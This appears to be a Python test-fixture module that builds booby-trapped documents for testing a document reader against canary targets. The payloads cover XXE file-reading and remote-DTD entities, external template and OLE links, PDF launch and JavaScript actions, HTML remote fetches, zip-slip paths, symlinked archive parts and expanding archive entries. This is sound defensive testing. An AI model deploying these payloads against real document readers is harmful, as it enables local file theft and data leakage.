"""Documents that ask for what is not theirs. Each attack is a name, which is the file's, and what makes its bytes."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from tests.attacks.canary import Canary
from tests.readers.making import W, lines, p, package, pdf

TEXT = "We meet once a month."
"""What each draft says beside its attack; where it is read, this and no more is read."""
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_ODT = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
)
_XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
Attack = Callable[[Canary], bytes]


def _word(body: str = p(TEXT), *, before: str = "", relations: str = "", **parts: str) -> bytes:
    return package({
        "[Content_Types].xml": "<Types/>",
        "word/document.xml": f"{before}<w:document {W} {_XI} xmlns:r='{_REL}'><w:body>{body}</w:body></w:document>",
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_PACKAGE}">{relations}</Relationships>',
        **{f"word/{name.replace('_', '.')}": content for name, content in parts.items()},
    })  # fmt: skip


def _related(kind: str, target: str) -> str:
    return f'<Relationship Id="x" Type="{_REL}/{kind}" TargetMode="External" Target="{target}"/>'


def _template(c: Canary) -> bytes:
    settings = f"<w:settings {W} xmlns:r='{_REL}'><w:attachedTemplate r:id='x'/></w:settings>"
    links = f'<Relationships xmlns="{_PACKAGE}">{_related("attachedTemplate", c.url)}</Relationships>'
    document = f"<w:document {W}><w:body>{p(TEXT)}</w:body></w:document>"
    body = {"[Content_Types].xml": "<Types/>", "word/document.xml": document}
    return package({**body, "word/settings.xml": settings, "word/_rels/settings.xml.rels": links})


def _ole(c: Canary) -> bytes:
    thing = p(TEXT) + "<w:p><w:r><w:object><o:OLEObject xmlns:o='o' Type='Link' r:id='x'/></w:object></w:r></w:p>"
    return _word(thing, relations=_related("oleObject", c.file_url))


def _picture(c: Canary) -> bytes:
    drawing = "<w:p><w:r><w:drawing><a:blip xmlns:a='a' r:link='x'/></w:drawing></w:r></w:p>"
    return _word(p(TEXT) + drawing, relations=_related("image", f"{c.url}/picture.png"))


def _field(c: Canary) -> bytes:
    """A field that Word fills from another file."""
    return _word(f'{p(TEXT)}<w:p><w:fldSimple w:instr="INCLUDETEXT {c.file}"/></w:p>')


def _chunk(c: Canary) -> bytes:
    return _word(f"{p(TEXT)}<w:altChunk r:id='x'/>", relations=_related("aFChunk", c.file_url))


def _styles(c: Canary) -> bytes:
    return _word(relations=_related("styles", c.file_url) + _related("numbering", f"{c.url}/n.xml"))


def _included(c: Canary) -> bytes:
    return _word(f"{p(TEXT)}<xi:include href='{c.file_url}' parse='text'/><xi:include href='{c.url}/x.xml'/>")


def _entity(c: Canary) -> bytes:
    return _word(p("&x;"), before=f'<!DOCTYPE d [<!ENTITY x SYSTEM "{c.file_url}">]>')


def _parameter(c: Canary) -> bytes:
    return _word(before=f'<!DOCTYPE d [<!ENTITY % x SYSTEM "{c.url}/d.dtd"> %x;]>')


def _doctype(c: Canary) -> bytes:
    return _word(before=f'<!DOCTYPE d SYSTEM "{c.url}/d.dtd">')


def _sheet(c: Canary) -> bytes:
    """An instruction that names a style sheet."""
    return _word(before=f'<?xml version="1.0"?><?xml-stylesheet href="{c.url}/x.xsl" type="text/xsl"?>')


def _odt(inside: str, before: str = "") -> bytes:
    content = (
        f"{before}<office:document-content {_ODT} {_XI}><office:body><office:text>{inside}</office:text></office:body>"
        "</office:document-content>"
    )
    return package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content})


def _odt_linked(c: Canary) -> bytes:
    picture = (
        f'<draw:frame><draw:image xlink:href="{c.url}/p.png"/><draw:object xlink:href="{c.file_url}"/></draw:frame>'
    )
    section = f'<text:section><text:section-source xlink:href="{c.file_url}"/></text:section>'
    return _odt(f"<text:p>{TEXT}{picture}</text:p>{section}<xi:include href='{c.file_url}' parse='text'/>")


def _odt_entity(c: Canary) -> bytes:
    return _odt("<text:p>&x;</text:p>", before=f'<!DOCTYPE d [<!ENTITY x SYSTEM "{c.file_url}">]>')


def _html(c: Canary) -> bytes:
    return f"""<!doctype html><html manifest="{c.url}/m"><head><base href="{c.url}/"><link rel=import href="{c.url}">
        <meta http-equiv=refresh content="0;url={c.url}/r"><style>@import "{c.url}/i.css"</style>
        <script src="{c.url}/x.js"></script>
        <script type="application/ld+json">{{"@context": "{c.url}/c.json", "@id": "x"}}</script></head>
        <body onload="fetch('{c.url}')"><p>{TEXT}</p><img src="{c.url}/p.png" srcset="{c.file_url} 2x">
        <iframe src="{c.file_url}"></iframe><object data="{c.file_url}"></object><embed src="{c.url}/e">
        <svg><image href="{c.url}/v"/><use href="{c.url}/u#a"/></svg>
        <video poster="{c.url}/w" src="{c.url}/y"></video></body></html>""".encode()


def _xhtml(c: Canary) -> bytes:
    declared = f'<!DOCTYPE html [<!ENTITY x SYSTEM "{c.file_url}"><!ENTITY % y SYSTEM "{c.url}/d"> %y;]>'
    return f'<?xml version="1.0"?>{declared}<html><body><p>{TEXT} &x;</p></body></html>'.encode()


def _markdown(c: Canary) -> bytes:
    return f"{TEXT}\n\n![]({c.url}/p.png)\n\n<img src='{c.url}/q.png'>\n\n--8<-- '{c.file}'\n".encode()


def _pdf(c: Canary) -> bytes:
    """Actions on opening, a script, a launched program, a form to send, links, a file within, a stream elsewhere."""
    writer = PdfWriter(clone_from=io.BytesIO(pdf(lambda canvas: lines(canvas, 80, 700, TEXT))))
    script = f"app.launchURL('{c.url}/js'); this.submitForm('{c.url}/form');"
    writer.add_attachment("inside.txt", b"an embedded file")
    name, text = NameObject, TextStringObject
    action = DictionaryObject({name("/S"): name("/URI"), name("/URI"): text(f"{c.url}/open")})
    launch = DictionaryObject({name("/S"): name("/Launch"), name("/F"): text(str(c.file))})
    first = ArrayObject([NumberObject(0)])
    remote = DictionaryObject({name("/S"): name("/GoToR"), name("/F"): text(str(c.file)), name("/D"): first})
    js = DictionaryObject({name("/S"): name("/JavaScript"), name("/JS"): text(script), name("/Next"): launch})
    writer.root_object[name("/OpenAction")] = action
    writer.root_object[name("/AA")] = DictionaryObject({name("/WC"): launch, name("/DP"): remote, name("/WS"): js})
    outside = DictionaryObject({name("/FS"): name("/URL"), name("/F"): text(f"{c.url}/stream")})
    writer.pages[0][name("/Thumb")] = DictionaryObject({name("/F"): outside, name("/FFilter"): name("/FlateDecode")})
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def _slip(c: Canary) -> bytes:
    climbing = {"../../../" + c.file.name: "x", str(c.file): "x", "C:\\canary.txt": "x"}
    body = f"<w:document {W}><w:body>{p(TEXT)}</w:body></w:document>"
    return package({"[Content_Types].xml": "<Types/>", "word/document.xml": body, **climbing})


def _link(c: Canary) -> bytes:
    """A part that is a symbolic link to the file."""
    stream = io.BytesIO(_word())
    with zipfile.ZipFile(stream, "a") as archive:
        info = zipfile.ZipInfo("word/styles.xml")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, str(c.file))
    return stream.getvalue()


def _twice(_: Canary) -> bytes:
    """One name for two parts: one program reads the first, another one the last."""
    stream = io.BytesIO(_word())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("Word/Document.xml", "<other/>")
    return stream.getvalue()


def _overlapping(_: Canary) -> bytes:
    """Two entries of the directory share the bytes of one part."""
    data = bytearray(_word(settings_xml="<a/>", fonts_xml="<a/>"))
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 4)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def _packed(method: int) -> Attack:
    """As no office program packs; it is unpacked in one go, however large it becomes."""

    def made(_: Canary) -> bytes:
        stream = io.BytesIO(_word())
        with zipfile.ZipFile(stream, "a") as archive:
            archive.writestr("word/other.xml", bytes(1 << 20), method)
        return stream.getvalue()

    return made


READ: dict[str, Attack] = {
    "template.docx": _template, "ole.docx": _ole, "picture.docx": _picture, "field.docx": _field, "chunk.docx": _chunk,
    "styles.docx": _styles, "included.docx": _included, "sheet.docx": _sheet, "slip.docx": _slip, "link.docx": _link,
    "linked.odt": _odt_linked, "page.html": _html, "page.xhtml": _xhtml, "notes.md": _markdown, "acts.pdf": _pdf,
}  # fmt: skip
"""Their text is read, and nothing is done."""
REFUSED: dict[str, tuple[Attack, str]] = {
    "entity.docx": (_entity, "document type"),
    "parameter.docx": (_parameter, "document type"),
    "doctype.docx": (_doctype, "document type"),
    "entity.odt": (_odt_entity, "document type"),
    "wide.docx": (lambda c: _wide(c), "document type"),
    "twice.docx": (_twice, "one name"),
    "overlapping.docx": (_overlapping, "overlap"),
    "bzip2.docx": (_packed(zipfile.ZIP_BZIP2), "no office program"),
    "lzma.odt": (_packed(zipfile.ZIP_LZMA), "no office program"),
}


def _wide(c: Canary) -> bytes:
    """Entities behind an encoding that a search in bytes does not see through."""
    declared = f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM "{c.file_url}">]>'
    body = f"<w:document {W}><w:body>{p('&x;')}</w:body></w:document>"
    return package({"[Content_Types].xml": "<Types/>", "word/document.xml": (declared + body).encode("utf-16")})
